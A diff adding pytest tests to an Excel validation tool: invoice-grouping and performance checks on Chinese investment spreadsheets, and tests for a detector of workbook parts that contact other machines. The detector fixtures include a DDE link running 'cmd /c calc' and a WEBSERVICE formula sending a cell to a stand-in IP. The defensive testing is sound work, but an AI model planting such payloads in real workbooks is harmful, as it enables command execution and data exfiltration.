@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import itertools
 import os
 import pickle
+import random
 import sys
 from pathlib import Path
 from typing import Any
@@ -12,12 +14,15 @@ import pytest
 from attack.test_proof import DISTRICT
 from sheets import xlsx
 
+from xltools.app.mark import leads_elsewhere
 from xltools.app.validate import validate
 from xltools.cli import run as xltools
 from xltools.errors import InputRefused
+from xltools.files.records import Malformed, read_json, text
 from xltools.files.refusals import corrupt
 from xltools.formats.opening import open_book
 from xltools.forms.inputs import Request
+from xltools.ledger.invoices import _Invoice
 from xltools.office.opc import pack, unpack
 
 LONGEST = 32_767
@@ -55,6 +60,7 @@ def badly_named(tmp_path: Path) -> Path:
     return home
 
 
+@pytest.mark.slow
 @pytest.mark.skipif(sys.platform != "linux", reason="no such names on this system")
 @pytest.mark.parametrize(
     "command",
@@ -91,3 +97,86 @@ def test_a_refusal_says_in_which_sheet_and_cell(tmp_path: Path) -> None:
     assert (file.refusal and file.refusal.sheet, file.refusal and file.refusal.cell) == ("乙", "B2")
     again = pickle.loads(pickle.dumps(corrupt("坏", cell="A1")))
     assert (again.code, again.what, again.cell) == ("corrupt", "坏", "A1")
+
+
+INVESTMENT = """
+# 附件6
+| 申报企业（盖章）：武汉示例甲有限公司 | | | | | 单位：万元 |
+| 序号 | 投资类别 | 设备（费用）名称 | 供应商 | 发票号码 | 开票日期 | 含税金额 |
+"""
+ROWS = {
+    "one number": "| {0} | 生产性设备购置 | 机床{0} | 供应商 | '12345678 | 2024-01-05 | 1.5 |",
+    "one number, many sellers": "| {0} | 生产性设备购置 | 机床 | 供应商{0}有限公司 | '12345678 | 2024-01-05 | 1.5 |",
+    "sums alone": "| 小计 | | | | | | {0} |",
+    "a sum below each row": "| {0} | 生产性设备购置 | 机床 | 甲 | '{0:08d} | 2024-01-05 | 1.5 |\n| 小计 | | | | | | {0} |",
+}
+
+
+def calls_for(rows: int, line: str, path: Path) -> int:
+    """How often Python calls anything, generators resumed included: grows as time does, and is the same on every machine."""
+    path.write_bytes(xlsx(INVESTMENT + "\n".join(line.format(number) for number in range(1, rows + 1))))
+    count = itertools.count()
+    sys.setprofile(lambda _frame, event, _argument: next(count) if event == "call" else None)
+    try:
+        validate(Request(paths=(str(path),), notice="wuhan-2025"))
+    finally:
+        sys.setprofile(None)
+    return next(count)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("line", ROWS)
+def test_rows_made_to_be_compared_with_each_other_cost_what_they_are(line: str, tmp_path: Path) -> None:
+    calls_for(10, ROWS[line], tmp_path / "表.xlsx")
+    few, many = (calls_for(rows, ROWS[line], tmp_path / "表.xlsx") for rows in (600, 1800))
+    assert many < 4 * few
+
+
+def test_rows_of_one_number_go_together_as_if_each_were_held_against_each() -> None:
+    """By the definition: a row joins the first invoice of which it contradicts no row."""
+    random.seed(1)
+    for _ in range(300):
+        told = [(random.choice(["", "甲", "乙"]), random.choice(["", "丙", "丁", "戊"])) for _ in range(7)]
+        groups: list[list[tuple[str, str]]] = []
+        made: list[_Invoice] = []
+        for code, seller in told:
+            group = next((one for one in groups if all(_alike((code, seller), other) for other in one)), None)
+            found = next((one for one in made if one.takes(code, seller)), None)
+            assert (group is None) == (found is None)
+            if group is None or found is None:
+                group, found = [], _Invoice()
+                groups.append(group)
+                made.append(found)
+            assert made.index(found) == [id(one) for one in groups].index(id(group))
+            group.append((code, seller))
+            found.add(object(), code, seller)  # type: ignore[arg-type]  # any row
+
+
+def _alike(one: tuple[str, str], other: tuple[str, str]) -> bool:
+    if one[0] and other[0]:
+        return one[0] == other[0]
+    return not (one[1] and other[1]) or one[1] == other[1]
+
+
+@pytest.mark.parametrize(
+    ("part", "data", "leads"),
+    [
+        ("xl/connections.xml", b'<connections><connection><webPr url="http://192.0.2.1/"/></connection></connections>', True),
+        ("xl/connections.xml", b"<connections/>", False),
+        ("xl/externalLinks/externalLink1.xml", b'<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>', True),
+        ("xl/worksheets/sheet9.xml", b'<f>WEBSERVICE("http://192.0.2.1/"&amp;A1)</f>', True),
+        ("xl/worksheets/sheet9.xml", b'<f>DISPIMG("ID_1",1)</f>', False),
+        ("xl/sharedStrings.xml", b"<t>WEBSERVICE(</t>", False),
+    ],
+)
+def test_what_asks_another_machine_is_told_of_a_marked_copy(part: str, data: bytes, leads: bool, tmp_path: Path) -> None:
+    path = tmp_path / "副本.xlsx"
+    path.write_bytes(pack({**unpack(xlsx("| 1 |")), part: data}, keep_order=True))
+    assert leads_elsewhere(path) is leads
+
+
+def test_half_a_sign_is_no_text_of_a_record() -> None:
+    for half in ("\\ud800", "\\udc00", "\\udfff"):
+        with pytest.raises(Malformed):
+            text(read_json(f'"区{half}"'))
+    assert text(read_json('"\\udcb2\\ud83d\\ude00"')) == "\udcb2😀", "a byte of a name that is no UTF-8; a pair"
